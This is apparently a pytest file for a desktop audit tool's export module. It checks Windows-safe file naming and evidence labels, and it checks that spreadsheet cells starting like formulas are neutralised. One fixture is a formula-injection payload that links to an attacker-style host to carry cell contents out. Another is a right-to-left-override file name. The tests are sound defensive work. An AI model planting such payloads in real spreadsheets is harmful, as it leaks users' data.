"""Names the export writes (Windows-safe, unique by label) and spreadsheet cells (no formulas)."""

from __future__ import annotations

import unicodedata
from datetime import date

import pytest

from qsi_desktop.export.cells import neutralise
from qsi_desktop.export.names import evidence_file_name, evidence_label, safe_file_name

WINDOWS_FORBIDDEN = set('<>:"/\\|?*')


def _windows_safe(name: str) -> bool:
    return (
        bool(name)
        and not (set(name) & WINDOWS_FORBIDDEN)
        and all(ord(c) >= 32 for c in name)
        and not name.endswith((" ", "."))
        and name.split(".")[0].upper().rstrip() not in {"CON", "PRN", "AUX", "NUL"}
        and name == unicodedata.normalize("NFC", name)
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("CON: a/b*?", "CON_ a_b__"),
        ('Audit <2026> "final" | v2?', "Audit _2026_ _final_ _ v2_"),
        ("con", "_con"),
        ("CON.txt", "_CON.txt"),
        ("nul.tar.gz", "_nul.tar.gz"),
        ("com1", "_com1"),
        ("LPT9 ", "_LPT9"),
        ("COM10", "COM10"),  # only COM1-9 are devices
        ("console", "console"),
        ("report. . .", "report"),
        ("  spaced  out  ", "spaced out"),
        ("line\nbreak\ttab", "line break tab"),
        ("nul\x00byte", "nul_byte"),
        ("rtl\u202egpj.exe", "rtl_gpj.exe"),  # a right-to-left override cannot disguise the type
        ("", "untitled"),
        ("...", "untitled"),
        ("?", "_"),
        ("Audit v2.1 final", "Audit v2.1 final"),
    ],
)
def test_safe_file_name(text: str, expected: str) -> None:
    assert safe_file_name(text) == expected
    assert _windows_safe(safe_file_name(text))


def test_safe_file_name_is_nfc_normalised() -> None:
    decomposed = "Re\u0301sume\u0301 e\u0301quipe"
    assert safe_file_name(decomposed) == "Résumé équipe"
    assert safe_file_name(decomposed) == unicodedata.normalize("NFC", safe_file_name(decomposed))


def test_a_long_name_is_shortened_keeping_its_extension() -> None:
    name = safe_file_name("a" * 300 + ".pdf")
    assert len(name) == 100 and name.endswith("a.pdf")
    assert safe_file_name("b" * 300, max_length=40) == "b" * 40
    # shortening never leaves a trailing space or dot before the extension
    assert safe_file_name("x" * 94 + " . yz.docx") == "x" * 94 + ".docx"


def test_undecodable_file_name_bytes_do_not_reach_the_zip() -> None:
    name = safe_file_name("scan\udcff.pdf")
    assert name == "scan_.pdf"
    name.encode("utf-8")


def test_evidence_label_has_three_digits_at_least() -> None:
    assert [evidence_label(n) for n in (1, 14, 999, 1234)] == ["E-001", "E-014", "E-999", "E-1234"]
    with pytest.raises(ValueError):
        evidence_label(-1)


def test_evidence_file_name() -> None:
    assert evidence_file_name(14, "Radiation policy", "RPP v3.PDF") == "E-014 Radiation policy.pdf"
    assert evidence_file_name(7, "Policy.pdf", "policy.pdf") == "E-007 Policy.pdf"  # no .pdf.pdf
    assert evidence_file_name(7, "CON: a/b*?", "x.docx") == "E-007 CON_ a_b__.docx"
    assert evidence_file_name(8, "Notes", "README") == "E-008 Notes"
    assert evidence_file_name(9, "  ", "C:\\Users\\me\\audit.xlsx") == "E-009.xlsx"
    long_name = evidence_file_name(123, "t" * 300, "long.docx")
    assert len(long_name) == 100 and long_name.startswith("E-123 ttt") and long_name.endswith(".docx")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
    ],
)
def test_formula_text_is_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Policy", "", " =not at the start", 42, -5, 3.5, date(2026, 3, 31), None])
def test_other_values_are_untouched(value: object) -> None:
    assert neutralise(value) == value
    assert type(neutralise(value)) is type(value)
